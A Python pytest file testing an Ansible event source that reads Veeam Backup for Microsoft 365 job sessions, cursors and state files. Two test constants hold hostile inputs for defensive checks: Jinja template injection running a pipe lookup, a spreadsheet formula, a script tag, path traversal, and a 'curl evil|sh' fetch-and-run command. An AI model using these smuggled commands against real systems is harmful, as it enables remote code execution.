# -*- coding: utf-8 -*-
# Copyright: (c) 2026, vb365.backup contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""The reader behind the job_sessions event source: each API version's way to learn of a finished session."""

from __future__ import annotations

import json
import os

import jinja2
import pytest

from ansible_collections.vb365.backup.plugins.module_utils import session_feed
from ansible_collections.vb365.backup.plugins.module_utils.normalize import inert
from ansible_collections.vb365.backup.plugins.module_utils.session_feed import Cursor, SessionFeed, event_uuid
from ansible_collections.vb365.backup.plugins.module_utils.vb365_api import Vb365Client
from ansible_collections.vb365.backup.tests.unit.plugins.wire import BASE, PASSWORD, v8_item

JOB = '2dc1c0fd-8d7c-4848-a9bb-9ca16329eabd'
OTHER_JOB = 'a701d959-20d0-4a77-a441-573ffa571c43'
JOBS = [{'id': JOB, 'name': 'Contoso - Mailboxes'}, {'id': OTHER_JOB, 'name': 'Fabrikam - All users'}]
NOW = 1795937600.0  # 2026-11-29T07:33:20Z: the tests pin the clock


def sid(number):
    return '20000000-0000-4000-8000-%012d' % number


def raw_session(number, status, version='v8', job=JOB, end='2026-11-29T07:00:00.0000000+00:00'):
    body = {'id': sid(number), 'status': status, 'creationTime': '2026-11-29T06:00:00.0000000+00:00',
            'endTime': end if status != 'Running' else None, 'retryCount': 0, 'statistics': {}}
    if version == 'v8':
        body['jobId'] = job
    else:
        body['_links'] = {'job': {'href': '/%s/Jobs/%s' % (version, job)}}
    return body


def client(version):
    return Vb365Client('vb365.test', username='backup-admin', password=PASSWORD, api_version=version)


def feed(version, cursor=None, **options):
    return SessionFeed(client(version), cursor or Cursor(BASE), long_poll_seconds=30, clock=lambda: NOW, **options)


def expect_start(wire, version, token='100'):
    wire.login(version=version)
    if version == 'v8':
        wire.expect('GET', '/v8/Jobs', query={'offset': '0', 'limit': '1000'},
                    body={'offset': 0, 'limit': 1000, 'results': JOBS, '_links': {}})
    else:
        wire.expect('GET', '/%s/Jobs' % version, query={'offset': '0', 'limit': '1000'}, body=JOBS)
    if version == 'v8':
        wire.expect('GET', '/v8/Events', query={'from': 'latest'}, body={'nextChangeToken': token, 'results': []})
    elif version == 'v7':
        wire.expect('GET', '/v7/JobSessions/Changes', query={'from': 'latest'},
                    body={'nextChangeToken': token, 'results': []})


def expect_counts(wire, version, number, items):
    wire.expect('GET', '/%s/JobSessions/%s/LogItems' % (version, sid(number)),
                query={'offset': '0', 'limit': '10000'},
                body={'offset': 0, 'limit': 10000, 'results': items, '_links': {}})


def test_v8_long_polls_events_and_fetches_each_finished_session(wire):
    expect_start(wire, 'v8')
    wire.expect('GET', '/v8/Events', query={'from': '100', 'limit': '1000', 'timeoutSeconds': '30'}, body={
        'nextChangeToken': '104', 'limit': 1000, 'results': [
            {'eventType': 'JobSessionUpdate', 'id': sid(1), 'jobId': JOB, 'status': 'Running', 'eTag': 1},
            {'eventType': 'JobUpdate', 'id': JOB, 'eTag': 3},
            {'eventType': 'JobSessionUpdate', 'id': sid(2), 'jobId': JOB, 'status': 'Failed', 'eTag': 2},
            {'eventType': 'JobSessionUpdate', 'id': sid(2), 'jobId': JOB, 'status': 'Failed', 'eTag': 2}]})
    wire.expect('GET', '/v8/JobSessions/%s' % sid(2), body=raw_session(2, 'Failed'))
    expect_counts(wire, 'v8', 2, [v8_item(1, 'Success', 'start'), v8_item(2, 'Error', 'denied'),
                                  v8_item(3, 'Warning', 'big')])
    reader = feed('v8', attention_limit=1)
    assert reader.start() == 'v8'
    assert reader.cursor.change_token == '100'
    finished = reader.poll()
    assert [raw['id'] for raw in finished] == [sid(2)], 'each session once, running ones not at all'
    event = reader.event(finished[0])
    vb365 = event['vb365']
    assert vb365['job_session']['status'] == 'Error' and vb365['job_session']['job_name'] == 'Contoso - Mailboxes'
    assert vb365['summary']['total'] == 3 and vb365['verdict'] == 'Error'
    assert [item['usn'] for item in vb365['attention']] == [2] and vb365['attention_left_out'] == 1
    assert vb365['server'] == BASE and vb365['api_version'] == 'v8'
    assert event['meta']['uuid'] == event_uuid(BASE, sid(2).upper()), 'the same session is the same event'
    assert reader.cursor.change_token == '100', 'the token moves only when the poll is committed'
    reader.commit(finished[0])
    reader.commit_poll()
    assert reader.cursor.change_token == '104' and reader.cursor.was_sent(sid(2))


def test_v8_outdated_token_catches_up_by_listing_then_starts_from_latest(wire):
    expect_start(wire, 'v8')
    wire.expect('GET', '/v8/Events', query={'from': '100', 'limit': '1000', 'timeoutSeconds': '30'}, status=400,
                body={'message': 'The change token is outdated.', 'errorCode': 'OutdatedChangeToken'})
    wire.expect('GET', '/v8/Events', query={'from': 'latest'}, body={'nextChangeToken': '250', 'results': []})
    reader = feed('v8')
    reader.start()
    since = reader.cursor.last_end_time
    wire.expect('GET', '/v8/JobSessions', query={'offset': '0', 'limit': '1000',
                                                 'endTimeLowerBound': '2026-11-29T07:23:20.0000000Z'},
                body={'offset': 0, 'limit': 1000, '_links': {}, 'results': [
                    raw_session(3, 'Success', end='2026-11-29T07:40:00.0000000+00:00'),
                    raw_session(4, 'Warning', end='2026-11-29T05:00:00.0000000+00:00')]})
    warnings = []
    reader._log = warnings.append
    finished = reader.poll()
    assert [raw['id'] for raw in finished] == [sid(3)], 'only what ended since the cursor, less the overlap'
    assert 'the change token is outdated; catching up' in warnings[0] and since in warnings[0]
    reader.commit_poll()
    assert reader.cursor.change_token == '250'


def test_v7_reads_the_change_feed(wire):
    expect_start(wire, 'v7', token='7')
    wire.expect('GET', '/v7/JobSessions/Changes', query={'from': '7', 'limit': '1000'}, body={
        'nextChangeToken': '9', 'limit': 1000,
        'results': [raw_session(5, 'Success', 'v7'), raw_session(6, 'Running', 'v7')]})
    reader = feed('v7')
    reader.start()
    assert [raw['id'] for raw in reader.poll()] == [sid(5)]


def test_v6_lists_with_overlap_and_sends_nothing_twice(wire):
    expect_start(wire, 'v6')
    page = {'offset': 0, 'limit': 1000, '_links': {}, 'results': [
        raw_session(7, 'Failed', 'v6', end='2026-11-29T07:35:00.0000000+00:00'),
        raw_session(8, 'Success', 'v6', job=OTHER_JOB, end='2026-11-29T07:36:00.0000000+00:00'),
        raw_session(9, 'Success', 'v6', end='2026-11-29T07:37:00.0000000+00:00')]}
    for bound in ('2026-11-29T07:23:20.0000000Z', '2026-11-29T07:27:00.0000000Z'):
        wire.expect('GET', '/v6/JobSessions', query={'offset': '0', 'limit': '1000', 'endTimeLowerBound': bound},
                    body=page)
    reader = feed('v6', statuses={'Error'}, job_names=['contoso - mailboxes'])
    reader.start()
    finished = reader.poll()
    assert [raw['id'] for raw in finished] == [sid(7)], 'Error only, of the chosen job only'
    reader.commit(finished[0])
    reader.commit_poll()
    assert reader.poll() == [], 'the overlap finds them again; the memory of sent ids drops them'


def test_v5_lists_every_page_without_a_time_filter(wire):
    expect_start(wire, 'v5')
    wire.expect('GET', '/v5/JobSessions', query={'offset': '0', 'limit': '1000'},
                body={'offset': 0, 'limit': 1000, '_links': {}, 'results': [
                    raw_session(10, 'Warning', 'v5', end='2026-11-29T07:30:00.0000000+00:00')]})
    reader = feed('v5')
    reader.start()
    assert [raw['id'] for raw in reader.poll()] == [sid(10)]


def test_cursor_is_saved_atomically_and_belongs_to_one_server(tmp_path):
    path = str(tmp_path / 'cursor.json')
    cursor = Cursor(BASE, change_token='42', last_end_time='2026-11-29T07:00:00Z')
    cursor.mark_sent(sid(1), '2026-11-29T07:30:00Z')
    cursor.save(path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ['cursor.json']
    loaded, note, writable = Cursor.load(path, BASE)
    assert note is None and writable == path
    assert loaded.change_token == '42' and loaded.was_sent(sid(1))
    assert loaded.last_end_time == '2026-11-29T07:30:00Z'
    other, note, writable = Cursor.load(path, 'https://elsewhere:4443')
    assert other.change_token is None and 'is the cursor of %s' % BASE in note and writable is None
    (tmp_path / 'broken.json').write_text('{"format": 1, "server"')
    broken, note, writable = Cursor.load(str(tmp_path / 'broken.json'), BASE)
    assert broken.change_token is None and 'cannot be read' in note and writable is None
    assert list(json.loads((tmp_path / 'cursor.json').read_text())['sent']) == [sid(1)]


HOSTILE = "=HYPERLINK(1)|{{ lookup('pipe', 'touch /tmp/x') }}{# c #}{% if 1 %}{%- endif %}<script>x</script>\r\ud800 {"
HOSTILE_ID = "../{{ lookup('pipe', 'touch /tmp/x') }};curl${IFS}evil|sh"


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from strings(key)
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def renders_as_itself(text):
    """Whether Jinja (what Ansible templates extra vars with) sees nothing but plain data in the text."""
    try:
        return all(kind == 'data' for _line, kind, _value in jinja2.Environment().lex(text))
    except jinja2.TemplateError:
        return False


def test_inert_leaves_no_text_that_jinja_would_run_alone_or_joined():
    event = inert({'name': HOSTILE, HOSTILE: [HOSTILE, 42, None, True], 'tail': 'a{', 'head': '{b', 'pct': '%}x'})
    texts = list(strings(event))
    assert not renders_as_itself(HOSTILE) and not renders_as_itself('a{' + '{b')
    assert texts and all(renders_as_itself(text) for text in texts)
    assert all(renders_as_itself(first + second) for first in texts for second in texts), 'joined by a rulebook'
    assert event['name'] == "=HYPERLINK(1)|{ { lookup('pipe', 'touch /tmp/x') }}{ # c #}{ % if 1 %}{ %- endif %}" \
                            "<script>x</script>\r\ufffd { ", 'readable: only a space after an opening brace'
    assert event[event['name']][1:] == [42, None, True], 'numbers, None and booleans stay'
    assert inert('{"json": {"kept": 1}}') == '{"json": {"kept": 1}}', 'braces that open nothing stay'


def test_v8_event_of_a_hostile_server_is_inert_in_every_text(wire):
    expect_start(wire, 'v8')
    wire.expect('GET', '/v8/Events', query={'from': '100', 'limit': '1000', 'timeoutSeconds': '30'}, body={
        'nextChangeToken': '101', 'results': [
            {'eventType': 'JobSessionUpdate', 'id': sid(2), 'jobId': JOB, 'status': 'Failed', 'eTag': 2}]})
    raw = dict(raw_session(2, 'Failed'), details=HOSTILE, statistics={HOSTILE: HOSTILE})
    wire.expect('GET', '/v8/JobSessions/%s' % sid(2), body=raw)
    item = v8_item(2, 'Error', HOSTILE)
    item['title'] = HOSTILE
    expect_counts(wire, 'v8', 2, [item])
    reader = feed('v8')
    reader.start()
    reader._names_by_id[JOB] = HOSTILE  # a job name is a tenant's text too
    event = reader.event(reader.poll()[0])
    assert event['vb365']['job_session']['details'].startswith('=HYPERLINK(1)|{ { lookup(')
    assert event['vb365']['job_session']['job_name'].startswith('=HYPERLINK(1)|{ { lookup(')
    texts = list(strings(event))
    assert len([text for text in texts if 'lookup' in text]) >= 4
    assert all(renders_as_itself(text) for text in texts)


def test_sessions_whose_ids_are_not_uuids_never_leave_the_feed(wire):
    expect_start(wire, 'v8')
    wire.expect('GET', '/v8/Events', query={'from': '100', 'limit': '1000', 'timeoutSeconds': '30'}, body={
        'nextChangeToken': '105', 'results': [
            {'eventType': 'JobSessionUpdate', 'id': HOSTILE_ID, 'jobId': JOB, 'status': 'Failed', 'eTag': 1},
            {'eventType': 'JobSessionUpdate', 'id': sid(3), 'jobId': JOB, 'status': 'Failed', 'eTag': 1},
            {'eventType': 'JobSessionUpdate', 'id': sid(4), 'jobId': JOB, 'status': 'Failed', 'eTag': 1},
            {'eventType': 'JobSessionUpdate', 'id': sid(5), 'jobId': JOB, 'status': 'Failed', 'eTag': 1}]})
    wire.expect('GET', '/v8/JobSessions/%s' % sid(3), body=dict(raw_session(3, 'Failed'), id=HOSTILE_ID))
    wire.expect('GET', '/v8/JobSessions/%s' % sid(4), body=raw_session(9, 'Failed'))
    wire.expect('GET', '/v8/JobSessions/%s' % sid(5), body=raw_session(5, 'Failed', job=HOSTILE_ID))
    logged = []
    reader = feed('v8', log=logged.append)
    reader.start()
    assert reader.poll() == []
    assert not any(call[1].startswith('/v8/JobSessions/..') for call in wire.calls), 'no request with that id'
    assert len(logged) == 4 and all(line.startswith('skipped ') for line in logged), logged
    assert 'when asked for session %s' % sid(4) in logged[2]
    assert all(renders_as_itself(line) for line in logged)
    reader.commit_poll()
    assert reader.cursor.change_token == '105', 'the cursor moves past them'
    assert list(reader.cursor.sent) == []


def test_v6_listing_skips_a_session_whose_id_is_not_a_uuid_and_logs_it_once(wire):
    expect_start(wire, 'v6')
    page = {'offset': 0, 'limit': 1000, '_links': {}, 'results': [
        dict(raw_session(7, 'Failed', 'v6', end='2026-11-29T07:35:00.0000000+00:00'), id=HOSTILE_ID),
        raw_session(8, 'Failed', 'v6', end='2026-11-29T07:36:00.0000000+00:00')]}
    for bound in ('2026-11-29T07:23:20.0000000Z', '2026-11-29T07:26:00.0000000Z'):
        wire.expect('GET', '/v6/JobSessions', query={'offset': '0', 'limit': '1000', 'endTimeLowerBound': bound},
                    body=page)
    logged = []
    reader = feed('v6', log=logged.append)
    reader.start()
    finished = reader.poll()
    assert [raw['id'] for raw in finished] == [sid(8)]
    reader.commit(finished[0])
    assert reader.poll() == []
    assert len(logged) == 1 and 'is not a UUID' in logged[0]


def test_a_session_gone_before_it_is_read_is_logged_and_skipped(wire):
    expect_start(wire, 'v8')
    wire.expect('GET', '/v8/Events', query={'from': '100', 'limit': '1000', 'timeoutSeconds': '30'}, body={
        'nextChangeToken': '103', 'results': [
            {'eventType': 'JobSessionUpdate', 'id': sid(3), 'jobId': JOB, 'status': 'Failed', 'eTag': 1},
            {'eventType': 'JobSessionUpdate', 'id': sid(4), 'jobId': JOB, 'status': 'Failed', 'eTag': 1}]})
    gone = {'message': 'Job session %s not found.' % sid(3), 'errorCode': 'NotFound'}
    wire.expect('GET', '/v8/JobSessions/%s' % sid(3), status=404, body=gone)
    wire.expect('GET', '/v8/JobSessions/%s' % sid(4), body=raw_session(4, 'Failed'))
    wire.expect('GET', '/v8/JobSessions/%s/LogItems' % sid(4), query={'offset': '0', 'limit': '10000'},
                status=404, body={'message': 'Job session not found.'})
    logged = []
    reader = feed('v8', log=logged.append)
    reader.start()
    finished = reader.poll()
    assert [raw['id'] for raw in finished] == [sid(4)]
    assert reader.event(finished[0]) is None, 'gone while its operations were read'
    assert len(logged) == 2 and all('is gone from the server (HTTP 404' in line for line in logged)
    reader.commit(finished[0])
    reader.commit_poll()
    assert reader.cursor.change_token == '103', 'the cursor moves past them'


class ListingClient:
    """Just enough of the client for a v6 listing: the sessions whose end time is within the bound."""

    api_version = 'v6'
    base_url = BASE

    def __init__(self, sessions):
        self.sessions = sessions

    def iter_pages(self, path, params=None, page_size=100, offset=0):
        assert path == '/JobSessions'
        bound = session_feed.timestamp_ticks(params['endTimeLowerBound'])
        yield [raw for raw in self.sessions if session_feed.timestamp_ticks(raw['endTime']) >= bound]


def test_v6_sends_each_session_once_however_many_end_within_the_overlap():
    # 2,100 sessions ending one every 0.25 s (under 10 minutes): each listing sees all of them again.
    sessions = [raw_session(number, 'Failed', 'v6', end=session_feed._format_ticks(
        (NOW + number * 0.25) * session_feed.TICKS_PER_SECOND)) for number in range(1, 2101)]
    reader = SessionFeed(ListingClient([]), Cursor(BASE), clock=lambda: NOW)
    reader.wanted_job_ids = None
    reader.cursor.last_end_time = session_feed._format_ticks(NOW * session_feed.TICKS_PER_SECOND)
    sent = []
    for visible in (700, 1400, 2100, 2100, 2100):
        reader.client.sessions = sessions[:visible]
        for raw in reader.poll():
            sent.append(raw['id'])
            reader.commit(raw)
        # A restart in between reads the memory back from the state file.
        reader.cursor = Cursor(BASE, last_end_time=reader.cursor.last_end_time, sent=reader.cursor.as_dict()['sent'])
    assert len(sent) == 2100 and len(set(sent)) == 2100


def test_the_memory_of_sent_sessions_forgets_only_what_no_listing_returns_again():
    cursor = Cursor(BASE)
    for number in range(1, 6001):
        # One session a second: the last 600 s are 601 sessions.
        cursor.mark_sent(sid(number), session_feed._format_ticks((NOW + number) * session_feed.TICKS_PER_SECOND))
    cursor.prune()
    assert len(cursor.sent) == 601 and cursor.was_sent(sid(5400)) and not cursor.was_sent(sid(5399))


@pytest.mark.parametrize('content, problem', [
    ('[1, 2]', 'a JSON list, not an object'),
    ('{"format": 2, "server": "%s", "sent": 5}' % BASE, 'sent is not a list or an object'),
    ('{"format": 2, "server": "%s", "sent": [1]}' % BASE, 'sent holds something other than ids'),
    ('{"format": 2, "server": "%s", "last_end_time": 5}' % BASE, 'last_end_time is not a date and time'),
    ('{"format": 2, "server": "%s", "change_token": {}}' % BASE, 'change_token is not a text'),
    ('{"format": 2, "server": 7}', 'server is not a text'),
    ('{"format": "2", "server": "%s"}' % BASE, "format '2'"),
    ('{"some": "other program"}', 'format None'),
])
def test_a_state_file_of_the_wrong_shape_is_kept_and_the_source_runs_from_now(tmp_path, content, problem):
    path = tmp_path / 'cursor.json'
    path.write_text(content)
    cursor, note, writable = Cursor.load(str(path), BASE)
    assert cursor.change_token is None and not cursor.sent and writable is None
    assert 'is not a cursor this source wrote (%s); starting from now' % problem in note
    assert 'in memory only' in note and 'give this source a state_file of its own' in note
    assert path.read_text() == content


def test_a_folder_at_the_state_file_path_is_named_as_such(tmp_path):
    cursor, note, writable = Cursor.load(str(tmp_path), BASE)
    assert writable is None and not cursor.sent
    assert note.startswith('state_file %s is a folder, not a file; starting from now.' % tmp_path)
    assert os.path.isdir(str(tmp_path))


def test_a_format_1_state_file_is_still_read(tmp_path):
    path = tmp_path / 'cursor.json'
    path.write_text(json.dumps({'format': 1, 'server': BASE, 'change_token': '9', 'last_end_time': None,
                                'sent': [sid(1)]}))
    cursor, note, writable = Cursor.load(str(path), BASE)
    assert note is None and writable == str(path) and cursor.was_sent(sid(1)) and cursor.change_token == '9'
